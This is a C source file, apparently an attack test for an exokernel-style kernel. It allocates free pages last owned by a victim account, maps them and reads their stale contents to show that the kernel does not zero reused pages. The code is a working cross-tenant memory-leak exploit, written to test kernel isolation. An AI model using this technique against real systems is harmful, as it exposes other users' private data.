// The kernel does not zero a page that its new owner asked to have as it is, whoever had it before.
#include "attack/attack.h"

// The records tell who a free page's last owner was.
void attack_zero(void) {
    for (ppn_t i = 0; i < EXO_WORDS->npages; i++) {
        const volatile struct exo_page *p = &EXO_PAGES[i];
        if (p->type != PAGE_FREE || p->account != VICTIM) continue;
        if (exo_page_alloc(EXO_PPN_BASE + i, 1).err) continue;
        if (rt_map(own_root(), PLACE(0), EXO_PPN_BASE + i, PTE_R)) return;
        loot(*(volatile u64 *)PLACE(0));
        return;
    }
}
